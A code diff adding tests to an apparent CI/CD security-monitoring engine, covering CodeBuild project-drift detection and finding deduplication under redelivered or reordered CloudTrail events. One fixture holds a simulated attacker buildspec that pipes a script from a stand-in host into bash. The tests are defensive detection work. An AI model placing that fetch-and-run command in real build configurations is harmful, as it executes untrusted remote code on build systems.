@@ -7,11 +7,11 @@ import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { parseConfig, type BuildwatchConfigInput } from '../../lambdas/config/config.js';
 import { Engine, type Outcome } from '../../lambdas/engine/engine.js';
-import type { EventBridgeEvent } from '../../lambdas/engine/events.js';
+import { envelopeForCloudTrail, type EventBridgeEvent } from '../../lambdas/engine/events.js';
 import { normaliseContent } from '../../lambdas/engine/normalise-input.js';
 import { toPipelineEvent } from '../../lambdas/engine/pipeline-event.js';
 import { route } from '../../lambdas/engine/router.js';
-import type { UseCase } from '../../lambdas/engine/use-case.js';
+import { defineUseCase, type UseCase } from '../../lambdas/engine/use-case.js';
 import { noLookups, type Lookups } from '../../lambdas/lookups/lookups.js';
 import { FindingsStore } from '../../lambdas/store/findings-store.js';
 import { StateStore } from '../../lambdas/store/state-store.js';
@@ -66,5 +66,143 @@ describe('first-seen under lost responses (#13 defect 1)', () => {
     const outcomes = [...(await deliver(engine, write)), ...(await deliver(engine, native)), ...(await deliver(engine, negotiation))];
     expect(created(outcomes, 'source.new-pusher')).toHaveLength(1);
     expect(created(outcomes, 'source.new-pusher')[0]?.finding.severity).toBe('high');
+  });
+});
+
+const PROJECT = 'payments-service-build';
+const SOURCE = { type: 'CODECOMMIT', location: 'https://git-codecommit.eu-west-1.amazonaws.com/v1/repos/payments-service' };
+const INLINE = 'version: 0.2\nphases:\n  build:\n    commands:\n      - curl -fsSL https://x.example/a.sh | bash\n';
+
+function projectCall(eventName: 'CreateProject' | 'UpdateProject', eventID: string, eventTime: string, requestParameters: Record<string, unknown>, who = 'rui.costa'): EventBridgeEvent {
+  return envelopeForCloudTrail({
+    eventVersion: '1.10',
+    userIdentity: { type: 'IAMUser', arn: `arn:aws:iam::111122223333:user/${who}`, accountId: '111122223333', userName: who },
+    eventTime,
+    eventSource: 'codebuild.amazonaws.com',
+    eventName,
+    awsRegion: 'eu-west-1',
+    sourceIPAddress: '198.51.100.7',
+    userAgent: 'aws-cli/2.15.0',
+    requestParameters: { name: PROJECT, ...requestParameters },
+    responseElements: null,
+    eventID,
+    readOnly: false,
+    eventType: 'AwsApiCall',
+    recipientAccountId: '111122223333',
+  });
+}
+
+const create = projectCall('CreateProject', 'c-1', '2026-10-01T09:00:00Z', {
+  source: { ...SOURCE, buildspec: 'buildspec.yml' },
+  environment: { type: 'LINUX_CONTAINER', image: 'aws/codebuild/standard:6.0', computeType: 'BUILD_GENERAL1_SMALL' },
+  serviceRole: 'arn:aws:iam::111122223333:role/payments-build',
+  description: 'payments',
+});
+const benignEdit = projectCall('UpdateProject', 'u-1', '2026-10-20T09:00:00Z', { description: 'payments service build' });
+const attack = projectCall('UpdateProject', 'u-2', '2026-10-24T01:08:21Z', { source: { ...SOURCE, buildspec: INLINE } }, 'svc-legacy-deploy');
+
+describe('drift under redelivery and reordering (#13 defect 3)', () => {
+  it('(a) a first-sight CreateProject delivered twice is a baseline both times', async () => {
+    const { engine } = await faultyEngine();
+    expect(created(await deliver(engine, create))).toEqual([]);
+    expect(created(await deliver(engine, create))).toEqual([]);
+    expect((await deliver(engine, create)).filter((o) => o.status === 'finding')).toEqual([]);
+  });
+
+  it('(a) also when the snapshot write landed and its answer was lost', async () => {
+    const { engine, client } = await faultyEngine();
+    client.plan = failOnce((c) => c.name === 'PutCommand' && (c.input['Item'] as Record<string, unknown>)['sk'] === '#snapshot', 'after');
+    await expect(deliver(engine, create)).rejects.toBeInstanceOf(InjectedTimeout);
+    expect((await deliver(engine, create)).filter((o) => o.status === 'finding')).toEqual([]);
+  });
+
+  it('(b) an older update delivered after a newer one is judged against the state at its own time', async () => {
+    const { engine, state } = await faultyEngine();
+    await deliver(engine, create);
+    const attackFindings = created(await deliver(engine, attack), 'build.project-drift');
+    const lateFindings = (await deliver(engine, benignEdit)).filter((o) => o.status === 'finding');
+    expect(attackFindings.map((o) => o.finding.severity)).toEqual(['critical']);
+    expect(attackFindings[0]?.finding.summary).toContain('source.buildspec');
+    // The benign edit changed the description only: an attestation, never the attacker's buildspec.
+    expect(lateFindings.map((o) => o.status === 'finding' && [o.finding.severity, o.finding.mode])).toEqual([['info', 'attest']]);
+    const late = lateFindings[0]?.status === 'finding' ? lateFindings[0].finding : undefined;
+    expect((late?.evidence['diff'] as Array<{ path: string }>).map((entry) => entry.path)).toEqual(['description']);
+    expect(late?.evidence['deliveredAfterNewerChange']).toBe('2026-10-24T01:08:21Z');
+    // Newer state is kept; the late edit fills in only what nothing newer touched.
+    const head = await state.getSnapshot('build.project-drift', `project/${PROJECT}`);
+    expect(head).toMatchObject({ updatedAt: '2026-10-24T01:08:21Z' });
+    expect(JSON.stringify(head?.state)).toContain('payments service build');
+    expect((head?.state['source'] as Record<string, Record<string, unknown>>)['buildspec']?.['inline']).toBe(true);
+  });
+
+  it('(b) the attack delivered again after the late edit is still the same critical finding', async () => {
+    const { engine } = await faultyEngine();
+    const outcomes: Outcome[] = [];
+    for (const e of [create, attack, benignEdit]) outcomes.push(...(await deliver(engine, e)));
+    const again = await deliver(engine, attack);
+    const original = created(outcomes, 'build.project-drift').find((o) => o.finding.severity === 'critical');
+    const redelivered = again.find((o) => o.status === 'finding');
+    expect(redelivered).toMatchObject({ status: 'finding', created: false, finding: { id: original?.finding.id, severity: 'critical' } });
+  });
+
+  it('(b) an update whose head write landed unanswered keeps its severity on retry', async () => {
+    const { engine, client } = await faultyEngine();
+    await deliver(engine, create);
+    client.plan = failOnce((c) => c.name === 'PutCommand' && (c.input['Item'] as Record<string, unknown>)['sk'] === '#snapshot', 'after');
+    await expect(deliver(engine, attack)).rejects.toBeInstanceOf(InjectedTimeout);
+    expect(created(await deliver(engine, attack), 'build.project-drift').map((o) => o.finding.severity)).toEqual(['critical']);
+  });
+});
+
+/** Reports every CodeCommit DeleteBranch under one dedup key, with a one-hour dedup window. */
+const branchProbe: UseCase = defineUseCase({
+  metadata: {
+    id: 'source.branch-probe',
+    answers: 'source.protection-change',
+    title: 'Probe for dedup-window tests',
+    stage: 'source',
+    description: 'Reports every branch deletion under one dedup key.',
+    severity: 'medium',
+    defaultMode: 'alert',
+    riskReduction: 1,
+    effort: 1,
+    mitre: ['T1485'],
+    falsePositives: ['none'],
+    runbook: 'nothing to do, it is a probe',
+    dedupWindowMinutes: 60,
+  },
+  pattern: { source: ['aws.codecommit'] },
+  logic: { kind: 'match', evaluate: () => ({ summary: 'branch deleted', resource: 'payments-service', dedupKey: 'payments-service|branch' }) },
+});
+
+function branchDeleted(eventID: string, eventTime: string) {
+  return toPipelineEvent(
+    envelopeForCloudTrail({
+      eventVersion: '1.09',
+      eventTime,
+      eventSource: 'codecommit.amazonaws.com',
+      eventName: 'DeleteBranch',
+      awsRegion: 'eu-west-1',
+      eventID,
+      eventType: 'AwsApiCall',
+      recipientAccountId: '111122223333',
+      userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::111122223333:user/bob', accountId: '111122223333', userName: 'bob' },
+      requestParameters: { repositoryName: 'payments-service' },
+    }),
+  );
+}
+
+describe('dedup windows under redelivery (#13 defect 3c)', () => {
+  it('a redelivered older event does not reopen its window: repeats of the newer window stay folded', async () => {
+    const { engine } = await faultyEngine();
+    const first = branchDeleted('d-1', '2026-10-20T10:00:00Z');
+    const newer = branchDeleted('d-2', '2026-10-20T11:30:00Z');
+    expect(created(await engine.evaluate(branchProbe, first))).toHaveLength(1);
+    const [opened] = created(await engine.evaluate(branchProbe, newer));
+    expect(opened).toBeDefined();
+    // The first event again (SQS redelivery, or a replay): the same finding, nothing reopened.
+    expect(await engine.evaluate(branchProbe, first)).toEqual([expect.objectContaining({ status: 'finding', created: false })]);
+    const repeat = await engine.evaluate(branchProbe, branchDeleted('d-3', '2026-10-20T11:40:00Z'));
+    expect(repeat).toEqual([expect.objectContaining({ status: 'deduplicated', into: opened?.finding.id, counted: true })]);
   });
 });
